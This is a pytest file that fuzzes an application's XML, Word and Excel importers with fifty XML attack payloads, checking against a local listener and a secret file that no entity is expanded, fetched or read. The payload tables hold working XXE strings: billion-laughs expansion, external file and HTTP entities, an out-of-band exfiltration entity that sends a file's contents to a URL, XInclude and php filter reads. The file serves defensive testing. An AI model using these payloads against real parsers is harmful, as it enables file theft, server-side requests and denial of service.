"""Fifty XML payloads in every door that reads XML: nothing is expanded, nothing is fetched, nothing is read from the
disk.

A server of the test listens where the payloads point and a file with a secret lies where they point; neither is
touched, and each import ends within its bounds, either refused or read without what the payload wanted in.
"""

from __future__ import annotations

import io
import os
import socket
import threading
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.contracts.importer_cases import NEEDS, as_xlsx
from tests.fuzz.forking import Forking
from tests.fuzz.judging import Town, complaints

pytestmark = pytest.mark.skipif(os.name != "posix", reason="resource limits are those of POSIX")
SECRET = "hemligheten-i-filen"
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))

# {url} is the listening server, {file} the secret file. {body} is where the door's own content stands.
DOCTYPES = {
    "general entity": '<!DOCTYPE r [<!ENTITY x "UTVIDGAD">]>',
    "billion laughs": f'<!DOCTYPE r [<!ENTITY l0 "ha">{LAUGHS}<!ENTITY x "&l9;">]>',
    "quadratic blowup": f'<!DOCTYPE r [<!ENTITY x "{"a" * 60_000}">]>',
    "external file": '<!DOCTYPE r [<!ENTITY x SYSTEM "{file}">]>',
    "external file url": '<!DOCTYPE r [<!ENTITY x SYSTEM "file://{file}">]>',
    "external http": '<!DOCTYPE r [<!ENTITY x SYSTEM "{url}/x">]>',
    "public identifier": '<!DOCTYPE r [<!ENTITY x PUBLIC "-//X//Y" "{url}/x">]>',
    "external subset": '<!DOCTYPE r SYSTEM "{url}/r.dtd">',
    "external subset, public": '<!DOCTYPE r PUBLIC "-//X//Y" "{url}/r.dtd">',
    "external subset, file": '<!DOCTYPE r SYSTEM "{file}">',
    "parameter entity": "<!DOCTYPE r [<!ENTITY % p \"<!ENTITY x 'UTVIDGAD'>\"> %p;]>",
    "external parameter entity": '<!DOCTYPE r [<!ENTITY % p SYSTEM "{url}/p.dtd"> %p;]>',
    "parameter entity of a file": '<!DOCTYPE r [<!ENTITY % p SYSTEM "{file}"> %p;]>',
    "exfiltration": '<!DOCTYPE r [<!ENTITY % f SYSTEM "{file}"><!ENTITY % p SYSTEM "{url}/?%f;"> %p;]>',
    "unparsed entity": '<!DOCTYPE r [<!NOTATION n SYSTEM "{url}/n"><!ENTITY x SYSTEM "{url}/g" NDATA n>]>',
    "notation": '<!DOCTYPE r [<!NOTATION n SYSTEM "{url}/n">]>',
    "default attribute": '<!DOCTYPE r [<!ATTLIST r a CDATA "UTVIDGAD">]>',
    "element declaration": "<!DOCTYPE r [<!ELEMENT r ANY>]>",
    "empty doctype": "<!DOCTYPE r>",
    "empty internal subset": "<!DOCTYPE r []>",
    "conditional section": '<!DOCTYPE r [<!ENTITY % i "INCLUDE"> <![%i;[<!ENTITY x "UTVIDGAD">]]>]>',
    "entity in an entity": '<!DOCTYPE r [<!ENTITY y "UTVIDGAD"><!ENTITY x "&y;">]>',
    "entity that names itself": '<!DOCTYPE r [<!ENTITY x "&x;">]>',
    "entities that name each other": '<!DOCTYPE r [<!ENTITY x "&y;"><!ENTITY y "&x;">]>',
    "redefined built-in": '<!DOCTYPE r [<!ENTITY lt "UTVIDGAD"><!ENTITY x "&lt;">]>',
    "ftp": '<!DOCTYPE r [<!ENTITY x SYSTEM "ftp://127.0.0.1/x">]>',
    "network share": r'<!DOCTYPE r [<!ENTITY x SYSTEM "\\127.0.0.1\x\y">]>',
    "device": '<!DOCTYPE r [<!ENTITY x SYSTEM "/dev/zero">]>',
    "data url": '<!DOCTYPE r [<!ENTITY x SYSTEM "data:text/plain,UTVIDGAD">]>',
    "jar url": '<!DOCTYPE r [<!ENTITY x SYSTEM "jar:{url}/x.jar!/y">]>',
    "php filter": '<!DOCTYPE r [<!ENTITY x SYSTEM "php://filter/read=convert.base64-encode/resource={file}">]>',
    "very many entities": "<!DOCTYPE r ["
    + "".join(f'<!ENTITY e{n} "a">' for n in range(20_000))
    + '<!ENTITY x "&e1;">]>',
    "very long doctype": "<!DOCTYPE r [<!--" + "a" * 2_000_000 + "-->]>",
    "unclosed doctype": '<!DOCTYPE r [<!ENTITY x "UTVIDGAD"',
}
OTHERS = {  # without a document type: what another reader might follow
    "xinclude of a file": '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{file}" parse="text"/>',
    "xinclude of a url": '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{url}/x"/>',
    "xinclude fallback": '<i:include xmlns:i="http://www.w3.org/2003/XInclude" href="{url}"><i:fallback/></i:include>',
    "schema location": '<a xmlns:s="http://www.w3.org/2001/XMLSchema-instance" s:schemaLocation="x {url}/x.xsd"/>',
    "schema, no space": '<a xmlns:x="http://www.w3.org/2001/XMLSchema-instance" x:noNamespaceSchemaLocation="{url}"/>',
    "xml base": '<a xml:base="{url}/"><b href="x"/></a>',
    "xlink": '<a xmlns:l="http://www.w3.org/1999/xlink" l:type="simple" l:actuate="onLoad" l:href="{url}/x"/>',
    "svg image": '<image xmlns="http://www.w3.org/2000/svg" href="{url}/x.svg"/>',
    "html picture": '<img src="{url}/x.png"/>',
    "undeclared entity": "&x;",
    "deep nesting": "<a>" * 100_000 + "</a>" * 100_000,
    "very many elements": "<a/>" * 900_000,
    "very many attributes": "<a " + " ".join(f'b{n}="1"' for n in range(200_000)) + "/>",
    "a very long name": f"<{'a' * 1_000_000}/>",
    "an unclosed element": "<a>",
}
HEADS = {  # before the root
    "stylesheet": '<?xml-stylesheet type="text/xsl" href="{url}/x.xsl"?>',
}
PAYLOADS = [*DOCTYPES, *OTHERS, *HEADS]


class Listener:
    """Listens and remembers that somebody called."""

    def __init__(self) -> None:
        self.calls = 0
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self._socket.getsockname()[1]}"
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:
                return
            self.calls += 1
            connection.close()

    def close(self) -> None:
        """Stop."""
        self._socket.close()


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    """The server that the payloads point to."""
    listening = Listener()
    yield listening
    listening.close()


@pytest.fixture(scope="module")
def town(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Town]:
    """A workspace to be left alone, with the secret beside it."""
    folder = tmp_path_factory.mktemp("stad")
    (folder / "hemligt.txt").write_text(SECRET, encoding="utf-8")
    with Forking() as forking:
        yield Town(folder, forking)


def xml_of(payload: str, root: str, inner: str) -> str:
    """A document whose root and content are the door's, with the payload in it."""
    name = root.split()[0]
    if payload in DOCTYPES:
        doctype = DOCTYPES[payload].replace("DOCTYPE r", f"DOCTYPE {name}")
        return f'<?xml version="1.0"?>{doctype}<{root}>{inner}&x;</{name}>'
    if payload in HEADS:
        return f'<?xml version="1.0"?>{HEADS[payload]}<{root}>{inner}</{name}>'
    return f'<?xml version="1.0"?><{root}>{inner}{OTHERS[payload]}</{name}>'


def europass(payload: str) -> tuple[str, str, bytes]:
    """A CV in Europass XML."""
    inner = "<CandidateProfile><ExecutiveSummary>Van svetsare.</ExecutiveSummary></CandidateProfile>"
    return "seeker", "cv.xml", xml_of(payload, 'Candidate xmlns="http://www.europass.eu/1.0"', inner).encode()


def word(payload: str) -> tuple[str, str, bytes]:
    """A CV in Word."""
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    text = "<w:p><w:r><w:t>Kompetenser: svetsning</w:t></w:r></w:p>"
    document = xml_of(payload, f'w:document xmlns:w="{space}"', f"<w:body>{text}</w:body>")
    return "seeker", "cv.docx", zipped({"word/document.xml": document.encode()})


def workbook(payload: str, part: str = "xl/worksheets/sheet1.xml") -> tuple[str, str, bytes]:
    """A table in Excel, the payload in its sheet."""
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rows = '<row><c t="str"><v>Id</v></c><c t="str"><v>Rubrik</v></c></row><row><c t="str"><v>B1</v></c>'
    rows += '<c t="str"><v>Kock</v></c></row>'
    sheet = xml_of(payload, f'worksheet xmlns="{space}"', f"<sheetData>{rows}</sheetData>")
    with zipfile.ZipFile(io.BytesIO(as_xlsx(NEEDS))) as archive:
        members = {member: archive.read(member) for member in archive.namelist()}
    return "need", "a.xlsx", zipped(members | {part: sheet.encode()})


def zipped(members: dict[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return stream.getvalue()


def try_in(town: Town, listener: Listener, kind: str, name: str, content: bytes, *, must_refuse: bool) -> None:
    """Import the payload and look everywhere for what it wanted."""
    file = town.folder / name
    secret = town.folder / "hemligt.txt"
    file.write_bytes(content.replace(b"{url}", listener.url.encode()).replace(b"{file}", str(secret).encode()))
    calls = listener.calls
    ended, unchanged = town.read_in(kind, file)
    assert complaints(ended, unchanged, name) == []
    assert ended.status == 1 if must_refuse else ended.status in (0, 1)
    for text in (ended.out, ended.err, town.text()):
        assert SECRET not in text
        assert "UTVIDGAD" not in text
    assert listener.calls == calls


def test_there_are_fifty() -> None:
    assert len(PAYLOADS) == len(set(PAYLOADS)) == 50


@pytest.mark.parametrize("payload", PAYLOADS)
def test_europass(town: Town, listener: Listener, payload: str) -> None:
    try_in(town, listener, *europass(payload), must_refuse=payload in DOCTYPES)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_word(town: Town, listener: Listener, payload: str) -> None:
    kind, name, content = word(payload)
    placed = _placed(content, "word/document.xml", town, listener)
    try_in(town, listener, kind, name, placed, must_refuse=payload in DOCTYPES)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_excel(town: Town, listener: Listener, payload: str) -> None:
    kind, name, content = workbook(payload)
    placed = _placed(content, "xl/worksheets/sheet1.xml", town, listener)
    try_in(town, listener, kind, name, placed, must_refuse=payload in DOCTYPES)


@pytest.mark.parametrize("part", ["xl/workbook.xml", "xl/styles.xml", "_rels/.rels", "xl/_rels/workbook.xml.rels"])
def test_other_parts_of_a_workbook(town: Town, listener: Listener, part: str) -> None:
    kind, name, content = workbook("external http", part)
    placed = _placed(content, part, town, listener)
    try_in(town, listener, kind, name, placed, must_refuse=True)


def test_links_of_a_workbook_are_not_followed(town: Town, listener: Listener) -> None:
    outside = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" TargetMode="External" Target="{url}/x.xml" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"/></Relationships>'
    )
    with zipfile.ZipFile(io.BytesIO(as_xlsx(NEEDS))) as archive:
        members = {member: archive.read(member) for member in archive.namelist()}
    members["xl/_rels/workbook.xml.rels"] = outside.replace("{url}", listener.url).encode()
    try_in(town, listener, "need", "a.xlsx", zipped(members), must_refuse=True)


def _placed(content: bytes, part: str, town: Town, listener: Listener) -> bytes:
    """The archive with the addresses put into one part: compressed bytes cannot be replaced from outside."""
    secret = str(Path(town.folder / "hemligt.txt")).encode()
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        members = {member: archive.read(member) for member in archive.namelist()}
    members[part] = members[part].replace(b"{url}", listener.url.encode()).replace(b"{file}", secret)
    return zipped(members)
